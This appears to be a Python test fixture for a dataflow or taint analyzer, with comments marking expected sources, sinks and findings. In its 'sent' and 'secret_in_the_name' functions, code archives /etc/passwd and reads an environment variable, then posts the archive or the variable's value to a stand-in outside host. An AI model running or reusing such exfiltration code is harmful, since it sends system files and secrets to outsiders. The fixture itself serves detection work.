"""What is in a file is not in its name, nor in a text that tells the name."""
import os
import zipfile

import requests

U = "https://out.example/"


def told(name):
    archive = zipfile.ZipFile(name, "w")
    archive.write("/etc/passwd")
    requests.post(U, data={"message": "made %s" % name})  #~ ok
    requests.post(U, data={"message": f"made {name}"})  #~ ok
    requests.post(U, data={"message": "made " + name})  #~ ok


def sent(name):
    archive = zipfile.ZipFile(name, "w")
    archive.write("/etc/passwd")  #~ source(FILE) n1
    requests.post(U, files={"archive": open(name, "rb")})  #~ sink(egress.http) n1, finding(traced) n1


def secret_in_the_name():
    name = "/tmp/" + os.getenv("A")  #~ source(ENVIRONMENT) n2
    requests.post(U, data="made " + name)  #~ sink(egress.http) n2, finding(traced) n2
